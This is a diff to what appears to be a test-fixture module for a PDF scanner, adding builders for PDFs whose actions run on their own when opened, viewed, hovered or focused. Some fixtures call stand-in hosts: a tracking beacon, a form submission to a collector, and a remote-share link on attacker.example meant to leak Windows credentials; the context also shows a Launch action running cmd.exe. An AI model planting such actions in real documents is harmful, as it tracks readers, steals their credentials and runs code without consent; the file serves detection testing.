@@ -202,6 +202,82 @@ def pdf_open_at_first_page() -> bytes:
     return pdf(catalog=b"/OpenAction [3 0 R /FitH 120]")
 
 
+# --- actions that run by themselves, chained (issue 19) --------------------------------------
+# Every viewer runs an action's ``/Next`` after it: a harmless move to page 1 first, then
+# whatever follows. Object 3 is the page, 6 and on are the ``extra`` objects.
+
+GO_TO_PAGE_1 = b"/S /GoTo /D [3 0 R /Fit]"
+BEACON = b"<< /S /URI /URI (https://tracker.example/opened) >>"
+SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (https://collector.example/form) >> >>"
+# Another file, on a share: opening it hands the reviewer's Windows credentials over.
+REMOTE = b"<< /S /GoToR /F (\\\\attacker.example\\share\\bill.pdf) /D [0 /Fit] >>"
+
+
+def go_to(following: bytes = b"") -> bytes:
+    """A move to page 1, then ``following`` (an action, an array of them, a reference)."""
+    return b"<< " + GO_TO_PAGE_1 + (b" /Next " + following if following else b"") + b" >>"
+
+
+def pdf_open_action_then(following: bytes) -> bytes:
+    """Opens at page 1, then runs ``following``."""
+    return pdf(catalog=b"/OpenAction " + go_to(following))
+
+
+def pdf_open_action_next_array() -> bytes:
+    """``/Next`` as an array: a second move, then the beacon, kept in its own object."""
+    return pdf(catalog=b"/OpenAction " + go_to(b"[" + go_to() + b" 6 0 R]"), extra=[BEACON])
+
+
+def pdf_open_action_indirect_chain() -> bytes:
+    """Each action its own object: 6 moves, then 7 moves, then 8 calls home."""
+    return pdf(catalog=b"/OpenAction 6 0 R",
+               extra=[go_to(b"7 0 R"), go_to(b"8 0 R"), BEACON])
+
+
+def pdf_page_aa_chain() -> bytes:
+    """When the page is shown: a move, then the beacon."""
+    return pdf(page=b"/AA << /O " + go_to(BEACON) + b" >>")
+
+
+def pdf_annotation_aa_chain() -> bytes:
+    """A link that calls home when the pointer merely passes over it (``/E``)."""
+    annotation = (b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 120] /Border [0 0 0] "
+                  b"/AA << /E " + go_to(BEACON) + b" >> >>")
+    return pdf(page=b"/Annots [6 0 R]", extra=[annotation])
+
+
+def pdf_form_field_aa_chain() -> bytes:
+    """A form field (object 6) whose widget, one of its ``/Kids`` (7), sends the form as
+    soon as it gets the focus."""
+    return pdf(catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [7 0 R]", extra=[
+        b"<< /FT /Tx /T (name) /Kids [7 0 R] >>",
+        b"<< /Type /Annot /Subtype /Widget /Parent 6 0 R /P 3 0 R /Rect [20 20 200 40] "
+        b"/AA << /Fo " + go_to(SUBMIT) + b" >> >>",
+    ])
+
+
+def pdf_go_to_chain(length: int) -> bytes:
+    """``length`` moves to page 1 run one after the other, each its own object (6, 7...)."""
+    chain = [go_to(b"%d 0 R" % (number + 1)) for number in range(6, 6 + length - 1)]
+    return pdf(catalog=b"/OpenAction 6 0 R", extra=[*chain, go_to()])
+
+
+def pdf_go_to_loop() -> bytes:
+    """A move whose ``/Next`` is itself: a viewer that follows it goes round for ever."""
+    return pdf(catalog=b"/OpenAction 6 0 R", extra=[go_to(b"6 0 R")])
+
+
+def pdf_many_open_actions(triggers: int, chain: int) -> bytes:
+    """``triggers`` objects, each with an ``/OpenAction`` of ``chain`` moves: no chain too
+    long, but all of them together far more than an honest file has."""
+    extra: list[bytes] = []
+    for _ in range(triggers):
+        first = 6 + len(extra) + 1
+        links = [go_to(b"%d 0 R" % (first + index + 1)) for index in range(chain - 1)]
+        extra += [b"<< /OpenAction %d 0 R >>" % first, *links, go_to()]
+    return pdf(extra=extra)
+
+
 def pdf_launch() -> bytes:
     annotation = (b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 120] "
                   b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>")
